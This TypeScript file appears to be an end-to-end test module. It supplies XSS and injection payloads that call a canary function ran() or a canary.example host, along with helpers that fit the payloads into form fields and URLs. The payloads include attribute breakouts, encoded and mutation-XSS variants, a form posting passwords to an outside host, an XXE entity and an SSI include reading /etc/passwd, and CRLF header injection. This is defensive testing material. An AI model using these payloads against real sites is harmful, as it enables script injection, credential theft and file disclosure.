import { readFileSync } from "node:fs";
import { soak } from "./soak";

/**
 * Texts that call `ran()` if they are executed: as HTML, in an attribute, a script, a style, a URL, JSON, XML or a
 * template. `E2E_PAYLOADS` names a file with more payloads, one JSON string per line.
 */
const builtIn: readonly string[] = [
  // Elements that run on load.
  "<script>ran()</script>",
  "<ScRiPt >ran()</sCrIpT >",
  "<script/x>ran()</script>",
  "<script\n>ran()</script\n>",
  "<script src=https://canary.example/a.js></script>",
  "<script src=//canary.example/b.js></script>",
  "<script type=module>ran()</script>",
  "<script>import('https://canary.example/c.js')</script>",
  "<scr<script>ipt>ran()</scr</script>ipt>",
  "<<script>ran();//<</script>",
  "<img src=x onerror=ran()>",
  '<img src="x" onerror="ran()">',
  "<img/src=x/onerror=ran()>",
  "<img src=x onerror=ran`1`>",
  "<img src=x OnErRoR=&#114;an()>",
  "<img src=x:x onerror\t=\tran()>",
  "<image src=x onerror=ran()>",
  "<svg onload=ran()>",
  "<svg/onload=ran()//",
  "<svg><script>ran()</script></svg>",
  "<svg><script>&#114;an()</script></svg>",
  "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  '<svg><set attributeName="href" to="javascript:ran()" onbegin=ran()>',
  "<body onload=ran()>",
  "<video><source onerror=ran()></video>",
  "<audio src=x onerror=ran()>",
  "<details open ontoggle=ran()>",
  "<input autofocus onfocus=ran()>",
  "<select autofocus onfocus=ran()>",
  "<marquee onstart=ran()>",
  "<style onload=ran()></style>",
  "<p style='animation:x 1s' onanimationstart=ran()></p><style>@keyframes x{}</style>",
  "<iframe onload=ran()></iframe>",
  "<iframe src=javascript:parent.ran()></iframe>",
  "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
  "<object data=javascript:ran()></object>",
  "<embed src=javascript:ran()>",
  "<math><mtext></mtext><script>ran()</script></math>",
  // Payloads that run on interaction.
  "<a href=javascript:ran()>x</a>",
  '<a href="java\tscript:ran()">x</a>',
  "<a href='&#106;avascript:ran()'>x</a>",
  "<a href=data:text/html,<script>ran()</script>>x</a>",
  "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>",
  "<form action=javascript:ran()><button>x</button></form>",
  "<button formaction=javascript:ran()>x</button>",
  "<div onmouseover=ran() style=position:fixed;inset:0>x</div>",
  "<p onclick=ran() tabindex=0 accesskey=x>x</p>",
  "<input type=checkbox onclick>",
  // Payloads that break out of an attribute, an element or a script.
  '"><script>ran()</script>',
  "'><script>ran()</script>",
  '"><img src=x onerror=ran()>',
  '" onfocus=ran() autofocus="',
  "' onmouseover=ran() x='",
  "`onerror=ran()`",
  "</script><script>ran()</script>",
  "</title><script>ran()</script>",
  "</textarea><script>ran()</script>",
  "</style><script>ran()</script>",
  "</noscript><script>ran()</script>",
  "</template><img src=x onerror=ran()>",
  "--><script>ran()</script>",
  "<!--><img src=x onerror=ran()>-->",
  "]]><script>ran()</script>",
  "<![CDATA[><script>ran()</script>]]>",
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">ran()</x:script>',
  "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "';ran();//",
  '";ran();//',
  "\\';ran();//",
  '\\"});ran();({"x":"',
  "\u2028ran()\u2029//",
  "$\u007bran()}",
  "{{constructor.constructor('ran()')()}}",
  "<%= ran() %>#{ran()}",
  "%SITE_NAME%<!--#include virtual='/etc/passwd' -->",
  // Encoded payloads.
  "&lt;script&gt;ran()&lt;/script&gt;",
  "&#60;img src=x onerror=ran()&#62;",
  "%3Cscript%3Eran()%3C/script%3E",
  "\\u003cimg src=x onerror=ran()\\u003e",
  "\\x3cscript\\x3eran()\\x3c/script\\x3e",
  "+ADw-script+AD4-ran()+ADw-/script+AD4-",
  "\uff1cscript\uff1eran()\uff1c/script\uff1e",
  "<\u017fcript>ran()</\u017fcript>",
  // Mutation XSS: HTML that sanitizing may turn into code.
  "<noscript><p title='</noscript><img src=x onerror=ran()>'>",
  "<math><style><img src=x onerror=ran()></style></math>",
  "<svg><style><img src=x onerror=ran()></style></svg>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
  "<svg></p><style><a title='</style><img src=x onerror=ran()>'>",
  "<math><annotation-xml encoding=text/html><style><img src=x onerror=ran()></style>",
  "<span class=ql-formula data-value='<img src=x onerror=ran()>'></span>",
  "<iframe class=ql-video src=javascript:parent.ran()></iframe>",
  "<p><img src='https://images.example/x.png' onload=ran()></p>",
  // Payloads that load or navigate to another host.
  "<base href=https://canary.example/>",
  "<meta http-equiv=refresh content='0;url=https://canary.example/'>",
  "<link rel=stylesheet href=https://canary.example/a.css>",
  "<style>@import 'https://canary.example/b.css';</style>",
  '<div style="background:url(https://canary.example/c.png)">x</div>',
  "<form action=https://canary.example/><input name=password></form>",
  "<p id=root name=cookie><a id=ran>clobber</a></p>",
  "javascript:ran()",
  "//canary.example/%0d%0aSet-Cookie:x=1",
];

const more = process.env.E2E_PAYLOADS;

/** Every fourth payload, which includes some of each kind; all of them in `make soak`. */
const selected = soak || more ? builtIn : builtIn.filter((_, number) => number % 4 === 0);

export const payloads: readonly string[] = more
  ? [...new Set([...selected, ...readFileSync(more, "utf8").trim().split("\n").map(parseLine)])]
  : selected;

/** The payloads that are valid in a single-line field. */
export function singleLinePayloads(maxLength: number): string[] {
  return payloads
    .filter((text) => Array.from(text).length <= maxLength && !/\p{Cc}/u.test(text) && text.trim() === text)
    .filter((text) => text !== "");
}

/** The payloads that are valid in a multi-line field. */
export function multiLinePayloads(maxLength: number): string[] {
  return payloads.filter(
    (text) => Array.from(text).length <= maxLength && !/[^\P{Cc}\n\r\t]/u.test(text) && text.trim() === text,
  );
}

/** Payloads for URLs, which are opened one by one: one for each context. */
export const urlPayloads: readonly string[] = [
  '"></script></title><img src=x onerror=ran()>',
  "javascript:ran()",
  "//canary.example/%0d%0aSet-Cookie:x=1",
];

/** The entry at an index, starting over at the end of the list. */
export function cycle<T>(list: readonly T[], number: number): T {
  const entry = list[number % list.length];
  if (entry === undefined) throw new Error("The list is empty");
  return entry;
}

/** Joins texts up to the maximum length of a field, to test many on one page. */
export function joinUpTo(texts: readonly string[], maxLength: number): string[] {
  const joined: string[] = [];
  for (const text of texts) {
    const candidate = `${joined.at(-1)} ${text}`;
    if (joined.length > 0 && Array.from(candidate).length <= maxLength) joined.splice(-1, 1, candidate);
    else joined.push(text);
  }
  return joined;
}

export function chunk<T>(list: readonly T[], size: number): T[][] {
  return Array.from({ length: Math.ceil(list.length / size) }, (_, number) =>
    list.slice(number * size, (number + 1) * size),
  );
}

function parseLine(line: string): string {
  const text: unknown = JSON.parse(line);
  if (typeof text !== "string") throw new Error(`Not a JSON string: ${line}`);
  return text;
}
